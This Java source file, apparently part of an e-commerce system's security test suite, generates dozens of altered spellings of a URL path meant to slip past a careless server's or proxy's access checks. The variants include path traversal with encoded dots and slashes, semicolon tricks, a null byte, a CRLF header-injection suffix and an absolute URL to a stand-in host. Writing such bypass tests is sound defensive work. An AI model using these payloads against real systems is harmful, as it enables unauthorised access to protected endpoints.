package ecommerce.system.attack;

import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** Spells a path in ways that a careless server or proxy takes for the same path, or for a public one. */
final class DirtyPaths {

    private DirtyPaths() {}

    /** Returns the path itself and its other spellings. */
    static List<String> of(String path) {
        var rest = path.substring(1);
        var second = rest.indexOf('/') + 1;
        var first = path.substring(0, second);
        var tail = path.substring(second);
        return Stream.of(
                        path,
                        "/" + path,
                        "/." + path,
                        "/;" + path,
                        "/%2f" + rest,
                        first + "/" + tail,
                        first + "/." + tail,
                        first + ";x=1" + tail,
                        first + "%2f" + tail.substring(1),
                        first + "%252f" + tail.substring(1),
                        first + "%5c" + tail.substring(1),
                        first + "\\" + tail.substring(1),
                        "/api/.." + path,
                        "/api/..;" + path,
                        "/api/..;x=1" + path,
                        "/api/%2e%2e" + path,
                        "/api/.%2e" + path,
                        "/api/%252e%252e" + path,
                        "/api/..%2f" + rest,
                        "/api/..%252f" + rest,
                        "/api/..%c0%af" + rest,
                        "/api/..%5c" + rest,
                        "/api/products/..%2f.." + path,
                        "/product-service" + path,
                        "/product-service/api/.." + path,
                        "/app/.." + path,
                        "/app/api/.." + path,
                        "/app/api/products/..;/..;/.." + path,
                        "/%" + Integer.toHexString(rest.charAt(0)) + rest.substring(1),
                        path.toUpperCase(Locale.ROOT),
                        first.substring(0, 2).toUpperCase(Locale.ROOT) + first.substring(2) + tail,
                        path + "/",
                        path + ";.css",
                        path + ".json",
                        path + "%20",
                        path + "%00",
                        path + "%0d%0aX-Injected:1",
                        path + "#",
                        rest,
                        "http://evil.example" + path)
                .toList();
    }
}
